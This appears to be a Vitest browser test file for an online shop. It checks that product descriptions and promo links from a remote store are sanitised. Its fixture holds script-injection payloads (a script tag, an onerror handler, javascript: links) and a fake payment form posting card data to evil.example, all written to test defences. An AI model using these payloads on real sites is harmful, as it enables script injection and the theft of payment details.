import { afterAll, expect, onTestFinished } from 'vitest';
import { failure } from '#lib/contract/messages/failures.ts';
import { startApiProxy } from '#tests/support/browser/api-proxy.ts';
import { smallShop } from '#tests/support/browser/shared-shops.ts';
import { newDataDir, startShop } from '#tests/support/browser/shop-server.ts';
import { desktop } from '#tests/support/browser/test-page.ts';
import { useShop } from '#tests/support/shop-test.ts';

const hostile = `<p>Soft cotton.</p><script>document.title='taken over'</script><img src=x onerror="document.title='taken over'">
  <style>.site-header{display:none}</style><form action="https://evil.example"><input name=card><button>Pay</button></form>
  <a href="javascript:document.title='taken over'" class="button primary">Buy</a><h1 id=content style="position:fixed">Sale</h1></div></main>`;

/** The remote store's reply to facets. */
let facets: (reply: unknown) => unknown = () => 404;
const proxy = await startApiProxy(await smallShop(), (path, reply) => {
  if (path.startsWith('/product-facets')) return facets(reply);
  if (path.startsWith('/single-product-details')) {
    const { data, ...rest } = reply as { data: object };
    return { ...rest, data: { ...data, description: hostile } };
  }
  if (path.startsWith('/home-page-sections')) {
    const section = {
      type: 'promo',
      image: '',
      heading: 'Sale',
      link: "javascript:document.title='taken over'",
      link_text: 'Take it',
    };
    return { success: true, data: [section] };
  }
  return reply;
});
afterAll(proxy.stop);
const { shop: site, test } = await useShop(startShop(newDataDir(), { STORE_API_URL: proxy.url }), { viewport: desktop });

test.for([
  ['null in every optional field', (info: object) => ({ ...info, logo: null, terms: null, legal: null, faq: null }), false],
  ['its name alone', () => ({ store_name: 'Far Shop' }), false],
  ['no store info', () => undefined, true],
] as const)(
  'the start warns of store info that the pages cannot use, and of no other (%s)',
  { timeout: 120_000 },
  async ([, change, isWarned]) => {
    const store = await startApiProxy(await smallShop(), (path, reply) =>
      path === '/store-info' ? { ...(reply as object), storeinfo: change((reply as { storeinfo: object }).storeinfo) } : reply,
    );
    onTestFinished(store.stop);
    const started = await startShop(newDataDir(), { STORE_API_URL: store.url });
    onTestFinished(started.stop);
    const page = await (await fetch(`${started.url}/faq`)).text();
    expect(page.includes(failure.store)).toBe(isWarned);
    if (isWarned) await expect.poll(started.output).toContain('without store info');
    else expect(started.output()).not.toContain('without store info');
  },
);

test('a description from a remote store is sanitised', async ({ page, pageErrors }) => {
  await page.goto(`${site.url}/products/plain-tee`);
  const facts = page.locator('.facts .description');
  expect(await facts.innerText()).toContain('Soft cotton.');
  expect(await facts.locator('script, style, img, form, input, button, a, h1, [id], [style], [class]').count()).toBe(0);
  expect(await page.locator('h1').allInnerTexts()).toEqual(['Plain Tee']);
  expect(await page.getByRole('banner').isVisible()).toBe(true);
  expect(await page.title()).toBe('Plain Tee | Small Shop');
  expect(await page.locator('meta[name=description]').getAttribute('content')).not.toMatch(/taken over|display/);
  // Anything that got through would have violated the content security policy.
  expect(pageErrors).toEqual([]);
});

test('a link with a script address is removed', async ({ page }) => {
  await page.goto(site.url);
  await page.getByRole('heading', { name: 'Sale' }).waitFor();
  expect(await page.locator('a[href^="javascript:" i]').count()).toBe(0);
});

/** Each has its own address, because pages of a remote store are cached for a while. */
const answers: [what: string, query: string, answer: (reply: unknown) => unknown][] = [
  ['does not know the call', 'size=S', () => 404],
  ['fails at it', 'size=M', () => 500],
  ['answers something else', 'size=L', () => ({ success: true, data: [{ facet: 'size' }] })],
  ['refuses it', 'size=S,M', () => ({ success: false, message: 'No such call' })],
];

test.for(answers)('filters of a remote store that %s work without counts', async ([, query, answer], { page, pageErrors }) => {
  facets = answer;
  const response = await page.goto(`${site.url}/shop?${query}`);
  expect(response?.status()).toBe(200);
  expect(await page.locator('#filters small').count()).toBe(0);
  expect(await page.locator('#filters :disabled').count()).toBe(0);
  await page.getByRole('checkbox', { name: 'Caps', exact: true }).check();
  await page.getByText('No products match all of these.').waitFor();
  expect(pageErrors).toEqual([]);
});

test('filters of a remote store with facets have counts', async ({ page }) => {
  facets = (reply) => reply;
  await page.goto(`${site.url}/shop?categories=wallet,caps`);
  expect(await page.locator('#filters label:has([value=caps]) small').innerText()).toBe('1');
});
